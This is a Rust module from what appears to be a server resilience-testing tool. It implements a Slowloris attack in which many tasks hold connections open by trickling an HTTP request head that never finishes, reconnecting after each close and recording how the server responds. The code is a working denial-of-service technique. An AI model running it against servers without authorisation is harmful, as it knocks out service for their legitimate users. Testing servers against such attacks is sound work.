//! The attack: connections that trickle a request head that never ends.

use super::*;

#[derive(Debug, Default, Clone)]
pub(super) struct AttackCounts {
    pub(super) opened: u64,
    pub(super) connect_errors: u64,
    pub(super) closed_by_server: u64,
    pub(super) refused_at_once: u64,
    pub(super) answers: BTreeMap<String, u64>,
    /// Lifetimes of the closed connections not refused at once, ms. A list, not a
    /// [`Histogram`]: one of those per task (30 KiB each, zeroed) made thousands of tasks stall
    /// the tool for a few hundred milliseconds as the attack started.
    pub(super) lifetimes_ms: Vec<u64>,
    pub(super) open_at_end: u64,
    pub(super) open_at_end_oldest_ms: u64,
    pub(super) connect_max_us: u64,
}

impl AttackCounts {
    pub(super) fn merge(&mut self, other: &AttackCounts) {
        self.opened += other.opened;
        self.connect_errors += other.connect_errors;
        self.closed_by_server += other.closed_by_server;
        self.refused_at_once += other.refused_at_once;
        for (key, count) in &other.answers {
            *self.answers.entry(key.clone()).or_default() += count;
        }
        self.lifetimes_ms.extend_from_slice(&other.lifetimes_ms);
        self.open_at_end += other.open_at_end;
        self.open_at_end_oldest_ms = self.open_at_end_oldest_ms.max(other.open_at_end_oldest_ms);
        self.connect_max_us = self.connect_max_us.max(other.connect_max_us);
    }
}

/// How one attacking connection ended.
pub(super) enum Ended {
    /// The server closed it; the status of whatever it answered first, if anything.
    ByServer(Option<u16>),
    /// Still open when the phase ended.
    AtEnd,
}

/// Trickles a head that never ends on `stream` until the server closes it or `end` comes.
pub(super) async fn trickle(stream: &mut TcpStream, trickle: Duration, end: Instant) -> Ended {
    if stream
        .write_all(b"GET / HTTP/1.1\r\nHost: x\r\n")
        .await
        .is_err()
    {
        return Ended::ByServer(None);
    }
    let mut answer: Vec<u8> = Vec::new();
    let mut chunk = [0u8; 2048];
    let mut next = Instant::now() + trickle;
    let mut line = 0u64;
    loop {
        tokio::select! {
            read = stream.read(&mut chunk) => match read {
                Ok(0) | Err(_) => return Ended::ByServer(status_of(&answer)),
                Ok(n) => {
                    if answer.len() < 64 {
                        answer.extend_from_slice(&chunk[..n.min(64)]);
                    }
                }
            },
            () = tokio::time::sleep_until(next) => {
                line += 1;
                let header = format!("X-Trickle-{line}: {line}\r\n");
                if stream.write_all(header.as_bytes()).await.is_err() {
                    return Ended::ByServer(status_of(&answer));
                }
                next += trickle;
            }
            () = tokio::time::sleep_until(end) => return Ended::AtEnd,
        }
    }
}

/// The status code at the start of `bytes`, if they start like a response.
pub(super) fn status_of(bytes: &[u8]) -> Option<u16> {
    let text = std::str::from_utf8(bytes.get(..12)?).ok()?;
    if !text.starts_with("HTTP/1.") {
        return None;
    }
    text.get(9..12)?.parse().ok()
}

/// One attacking task: connect, trickle, and again after each close, until `end`.
pub(super) async fn attacker(
    options: Arc<SlowlorisOptions>,
    source: IpAddr,
    start: Instant,
    end: Instant,
    held: Arc<AtomicI64>,
) -> AttackCounts {
    let mut counts = AttackCounts::default();
    tokio::time::sleep_until(start).await;
    while Instant::now() < end {
        let before = Instant::now();
        let connected = tokio::time::timeout_at(end, connect_from(source, options.target)).await;
        let mut stream = match connected {
            Err(_) => break,
            Ok(Err(_)) => {
                counts.connect_errors += 1;
                tokio::time::sleep_until((Instant::now() + options.reconnect_wait).min(end)).await;
                continue;
            }
            Ok(Ok(stream)) => stream,
        };
        let connected_at = Instant::now();
        counts.connect_max_us = counts
            .connect_max_us
            .max(connected_at.duration_since(before).as_micros() as u64);
        counts.opened += 1;
        held.fetch_add(1, Ordering::Relaxed);
        let ended = trickle(&mut stream, options.trickle, end).await;
        held.fetch_sub(1, Ordering::Relaxed);
        let lived = connected_at.elapsed();
        match ended {
            Ended::AtEnd => {
                counts.open_at_end += 1;
                counts.open_at_end_oldest_ms =
                    counts.open_at_end_oldest_ms.max(lived.as_millis() as u64);
                break;
            }
            Ended::ByServer(status) => {
                counts.closed_by_server += 1;
                let key = status.map_or_else(|| "none".to_string(), |s| s.to_string());
                *counts.answers.entry(key).or_default() += 1;
                if lived < options.refused_within {
                    counts.refused_at_once += 1;
                } else {
                    counts.lifetimes_ms.push(lived.as_millis() as u64);
                }
            }
        }
        drop(stream);
        tokio::time::sleep_until((Instant::now() + options.reconnect_wait).min(end)).await;
    }
    counts
}
